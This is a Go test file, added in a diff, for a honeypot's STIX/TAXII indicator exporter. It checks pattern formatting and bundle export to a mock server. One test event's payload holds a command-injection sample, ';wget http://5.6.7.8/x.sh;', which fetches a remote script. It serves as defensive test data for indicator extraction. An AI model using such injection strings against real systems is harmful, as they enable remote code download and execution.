@@ -0,0 +1,79 @@
+package producer
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/spf13/viper"
+	"github.com/stretchr/testify/require"
+)
+
+func TestSTIXPattern(t *testing.T) {
+	require.Equal(t, "[ipv4-addr:value = '1.2.3.4']", stixPattern(indicator{indicatorIP, "1.2.3.4"}))
+	require.Equal(t, "[ipv6-addr:value = '2001:db8::1']", stixPattern(indicator{indicatorIP, "2001:db8::1"}))
+	require.Equal(t, `[url:value = 'http://x/a\'b\\c']`, stixPattern(indicator{indicatorURL, `http://x/a'b\c`}))
+	require.Equal(t, "[file:hashes.'SHA-256' = 'ab']", stixPattern(indicator{indicatorSHA256, "ab"}))
+}
+
+func TestSTIXExport(t *testing.T) {
+	var pushed map[string][]stixObject
+	svr := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		require.Equal(t, "/api/collections/c1/objects/", r.URL.Path)
+		require.Equal(t, taxiiMedia, r.Header.Get("Content-Type"))
+		user, pass, ok := r.BasicAuth()
+		require.True(t, ok)
+		require.Equal(t, "user:pass", user+":"+pass)
+		require.NoError(t, json.NewDecoder(r.Body).Decode(&pushed))
+		w.WriteHeader(http.StatusAccepted)
+	}))
+	defer svr.Close()
+	dir := t.TempDir()
+	viper.Set("producers.stix.dir", dir)
+	viper.Set("producers.stix.interval", time.Hour)
+	viper.Set("producers.stix.taxii.url", svr.URL+"/api/")
+	viper.Set("producers.stix.taxii.collection", "c1")
+	viper.Set("producers.stix.taxii.username", "user")
+	viper.Set("producers.stix.taxii.password", "pass")
+	defer viper.Set("producers.stix.taxii.url", "")
+
+	s, err := newSTIXExporter(http.DefaultClient, "test", slog.Default())
+	require.NoError(t, err)
+	event := &Event{
+		Timestamp: time.Date(2024, 3, 9, 12, 0, 0, 0, time.UTC),
+		SrcHost:   "1.2.3.4",
+		Handler:   "http",
+		DstPort:   80,
+		Payload:   base64.StdEncoding.EncodeToString([]byte("GET /?x=;wget http://5.6.7.8/x.sh; HTTP/1.1")),
+	}
+	s.log(event)
+	s.log(event)
+	s.log(&Event{SrcHost: "10.0.0.1"})
+	s.close()
+
+	bundles, err := filepath.Glob(filepath.Join(dir, "bundle--*.json"))
+	require.NoError(t, err)
+	require.Len(t, bundles, 1)
+	data, err := os.ReadFile(bundles[0])
+	require.NoError(t, err)
+	var bundle stixBundle
+	require.NoError(t, json.Unmarshal(data, &bundle))
+	require.Equal(t, "bundle", bundle.Type)
+	require.Len(t, bundle.Objects, 3)
+	require.Equal(t, "identity", bundle.Objects[0].Type)
+	patterns := []string{}
+	for _, obj := range bundle.Objects[1:] {
+		require.Equal(t, "2.1", obj.SpecVersion)
+		require.Equal(t, bundle.Objects[0].ID, obj.CreatedByRef)
+		require.Equal(t, "2024-03-09T12:00:00.000Z", obj.ValidFrom)
+		patterns = append(patterns, obj.Pattern)
+	}
+	require.ElementsMatch(t, []string{"[ipv4-addr:value = '1.2.3.4']", "[url:value = 'http://5.6.7.8/x.sh']"}, patterns)
+	require.Equal(t, bundle.Objects, pushed["objects"])
+}